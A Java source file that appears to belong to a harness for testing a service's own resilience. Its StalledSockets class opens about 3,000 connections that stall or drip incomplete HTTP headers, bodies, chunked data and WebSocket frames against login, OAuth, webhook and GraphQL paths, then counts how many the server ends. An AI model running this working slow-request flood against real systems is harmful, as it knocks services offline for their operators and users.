package dev.ringback.attack;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Executors;
import java.util.concurrent.Semaphore;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;

/** Sockets that announce much and send two bytes, or drip: heads, bodies, chunks and WebSocket frames that never end. */
final class StalledSockets implements Attack {

    private static final int ANNOUNCING = 1_800;
    private static final int DRIPPING = 200;
    /** So many connect at a time; what waits longer at the door is no attack on what is behind it. */
    private static final int AT_THE_DOOR = 50;

    private static final int DRIP_MILLIS = 1_000;
    private static final int PATIENCE_SECONDS = 60;
    private static final List<String> DOORS =
            List.of("/oauth2/token", "/webhooks/twilio/voice", "/webhooks/twilio/sms", "/login", "/graphql");
    private static final String UPGRADE =
            "GET /graphql HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
                    + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n";

    private final Semaphore door = new Semaphore(AT_THE_DOOR);
    private final AtomicInteger ended = new AtomicInteger();

    /** What is said at first, and again and again. */
    private record Speech(String begin, String drip) {}

    @Override
    public String name() {
        return "3,000 sockets that stall or drip";
    }

    @Override
    public Outcome against(Target target) {
        var speeches = speeches();
        try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
            speeches.forEach(it -> threads.execute(() -> stall(target, it)));
        }
        var unended = speeches.size() - ended.get();
        return new Outcome(speeches.size(), ended.get(), unended, "", List.of());
    }

    private static List<Speech> speeches() {
        var all = new ArrayList<Speech>();
        for (var i = 0; i < ANNOUNCING; i++) {
            all.add(new Speech(post(i, "Content-Length: 250000") + "a=", ""));
        }
        for (var i = 0; i < DRIPPING; i++) {
            all.add(new Speech(post(i, "Content-Length: 1900000") + "a=", ""));
            all.add(new Speech("GET /login HTTP/1.1\r\nHost: x\r\nX-Long: ", "x"));
            all.add(new Speech(post(i, "Content-Length: 100000") + "a=", "b"));
            all.add(new Speech(post(i, "Transfer-Encoding: chunked"), "1\r\nb\r\n"));
            all.add(new Speech(UPGRADE + frame("\u0081"), "x"));
            // The first of many fragments, and one more each time.
            all.add(new Speech(UPGRADE + "\u0001\u0080\0\0\0\0", "\0\u0081\0\0\0\0x"));
        }
        return all;
    }

    /** A masked frame that announces a gigabyte. */
    private static String frame(String opcode) {
        return opcode + "\u00ff\0\0\0\0\u0040\0\0\0\0\0\0\0";
    }

    private static String post(int number, String length) {
        var path = DOORS.get(number % DOORS.size());
        return "POST " + path + " HTTP/1.1\r\nHost: x\r\nContent-Type: "
                + (path.equals("/graphql") ? "application/json" : "application/x-www-form-urlencoded")
                + "\r\n" + length + "\r\n\r\n";
    }

    private void stall(Target target, Speech speech) {
        try (var wire = connected(target)) {
            wire.say(speech.begin());
            if (Stream.generate(() -> hasEnded(wire, speech))
                    .limit(PATIENCE_SECONDS)
                    .anyMatch(it -> it)) {
                ended.incrementAndGet();
            }
        } catch (IOException refused) {
            ended.incrementAndGet();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private Wire connected(Target target) throws IOException, InterruptedException {
        door.acquire();
        try {
            return new Wire(target.port());
        } finally {
            door.release();
        }
    }

    private static boolean hasEnded(Wire wire, Speech speech) {
        if (wire.endsWithin(DRIP_MILLIS)) {
            return true;
        }
        try {
            wire.say(speech.drip());
            return false;
        } catch (IOException cut) {
            return true;
        }
    }
}
